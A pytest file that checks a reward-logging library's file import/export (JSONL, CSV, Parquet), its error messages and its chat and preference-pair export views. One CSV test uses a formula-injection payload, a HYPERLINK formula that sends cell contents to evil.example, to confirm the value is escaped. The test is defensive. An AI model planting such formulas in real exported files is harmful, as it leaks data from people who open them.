"""Files in and out (JSONL, CSV, Parquet) and the export views, on hand-made decisions."""

from __future__ import annotations

import pytest

from rewardloop.store.files import (
    FileFormatError,
    file_format,
    known_label,
    openai_rows,
    preference_rows,
    read_rows,
    write_rows,
)
from rewardloop.types import Decision, DecisionBatch, Feedback, decision_from_dict, record_to_dict


def clf(i: int, action: str = "on") -> Decision:
    dist = (0.6, 0.4) if action == "on" else (0.4, 0.6)
    return Decision(
        id=f"d{i}",
        policy="intent",
        policy_version="1",
        kind="classifier",
        actions=("on", "off"),
        action=action,
        action_dist=dist,
        pscore=0.6,
        text=f"text {i}",
        metadata={"category": "lights"},
    )


@pytest.mark.parametrize("suffix", ["jsonl", "csv", "parquet"])
def test_decisions_survive_every_file_format(tmp_path, suffix):
    decisions = [clf(i) for i in range(3)]
    path = tmp_path / f"d.{suffix}"
    assert write_rows([record_to_dict(d) for d in decisions], path) == 3
    back = [decision_from_dict(r) for r in read_rows(path)]
    assert back == decisions


def test_format_errors_name_the_file_and_line(tmp_path):
    with pytest.raises(FileFormatError, match=r"cannot tell the format from '\.txt'"):
        file_format("x.txt")
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"a": 1}\n{oops\n')
    with pytest.raises(FileFormatError, match=r"bad.jsonl line 2: not valid JSON"):
        list(read_rows(bad))
    arr = tmp_path / "arr.jsonl"
    arr.write_text("[1, 2]\n")
    with pytest.raises(FileFormatError, match="line 1: expected a JSON object"):
        list(read_rows(arr))
    csv = tmp_path / "bad.csv"
    csv.write_text("policy,actions\nintent,[on\n")
    with pytest.raises(FileFormatError, match="line 2: actions: not valid JSON"):
        list(read_rows(csv))


def test_known_label_rules():
    d = clf(1)
    thumbs_up = Feedback(decision_id="d1", kind="rating", value=1, scale=(-1, 1), authority=0.5)
    thumbs_down = Feedback(decision_id="d1", kind="rating", value=-1, scale=(-1, 1))
    fix = Feedback(decision_id="d1", kind="correction", label="off", authority=0.9)
    assert known_label(d, [thumbs_up]) == "on"
    assert known_label(d, [thumbs_down]) is None  # wrong, but which label is right is unknown
    assert known_label(d, [thumbs_up, fix]) == "off"  # the more authoritative wins
    assert known_label(d, []) is None


def test_openai_and_pair_views():
    batch = DecisionBatch(
        [clf(1), clf(2), clf(3)],
        {
            "d1": [Feedback(decision_id="d1", kind="correction", label="off", rater_id="r1", id="f1")],
            "d2": [Feedback(decision_id="d2", kind="implicit", value=1)],
        },
    )
    chats = list(openai_rows(batch))
    assert [c["messages"][2]["content"] for c in chats] == ["off", "on"]
    assert chats[0]["messages"][1] == {"role": "user", "content": "text 1"}
    (pair,) = preference_rows(batch)
    assert (pair["prompt"], pair["chosen"], pair["rejected"], pair["feedback_id"]) == (
        "text 1",
        "off",
        "on",
        "f1",
    )


def test_preference_pairs_use_candidate_texts():
    d = Decision(
        id="r1",
        policy="rr",
        policy_version="1",
        kind="reranker",
        actions=("c1", "c2"),
        action="c1",
        action_dist=(0.5, 0.5),
        pscore=0.5,
        text="what is WAL?",
        candidates=("write-ahead logging", "a kind of wall"),
    )
    fb = Feedback(decision_id="r1", kind="preference", preferred="c1", rejected="c2")
    (pair,) = preference_rows(DecisionBatch([d], {"r1": [fb]}))
    assert (pair["chosen"], pair["rejected"]) == ("write-ahead logging", "a kind of wall")


# ------------------------------------------------------------------- issue 13, items 4 and 10


def test_csv_cells_that_start_like_a_formula_are_quoted_and_read_back_exactly(tmp_path):
    from rewardloop.store.files import read_rows, write_rows

    cells = {
        "text": '=HYPERLINK("http://evil.example/?x="&A1, "click")',
        "comment": "+1 agreed",
        "label": "-sport",
        "rater_id": "@ann",
        "policy": "\tx",
        "variant": "'=not a formula",
        "experiment": "plain",
    }
    path = tmp_path / "x.csv"
    write_rows([cells], path)
    raw = path.read_text()
    assert "'=HYPERLINK(" in raw and "'+1 agreed" in raw and "'-sport" in raw and "'@ann" in raw
    assert "''=not a formula" in raw
    assert "\n=" not in raw and ",=" not in raw
    (back,) = list(read_rows(path))
    assert back == cells


def test_parquet_is_written_in_row_groups_and_reads_back(tmp_path, monkeypatch):
    import pyarrow.parquet as pq

    import rewardloop.store.files as files

    monkeypatch.setattr(files, "PARQUET_GROUP_ROWS", 3)
    rows = [
        {"id": f"r{i}", "latency_ms": None if i < 4 else float(i), "actions": ["a", "b"]} for i in range(10)
    ]
    path = tmp_path / "x.parquet"
    assert files.write_rows(rows, path) == 10
    assert pq.ParquetFile(path).metadata.num_row_groups == 4
    back = list(files.read_rows(path))
    assert [r["id"] for r in back] == [r["id"] for r in rows]
    assert [r.get("latency_ms") for r in back] == [None] * 4 + [float(i) for i in range(4, 10)]
    assert back[0]["actions"] == ["a", "b"]


def test_iter_decisions_pages_through_the_same_rows_in_the_same_order(store):
    import dataclasses
    from datetime import UTC, datetime

    from rewardloop.store import read_decisions, write_decisions, write_feedback
    from rewardloop.store.repository import iter_decisions

    t = datetime(2026, 1, 1, tzinfo=UTC)  # equal times: the id breaks the tie
    same_time = [dataclasses.replace(clf(i), created_at=t) for i in (6, 4, 5)]
    write_decisions(store, [clf(i) for i in range(4)] + same_time)
    write_feedback(store, [Feedback(decision_id="d5", kind="implicit", value=1)])
    pages = list(iter_decisions(store, page_size=3, include_feedback=True))
    assert [len(p) for p in pages] == [3, 3, 1]
    assert [i for p in pages for i in p.ids] == read_decisions(store).ids
    assert sum(len(p.feedback) for p in pages) == 1
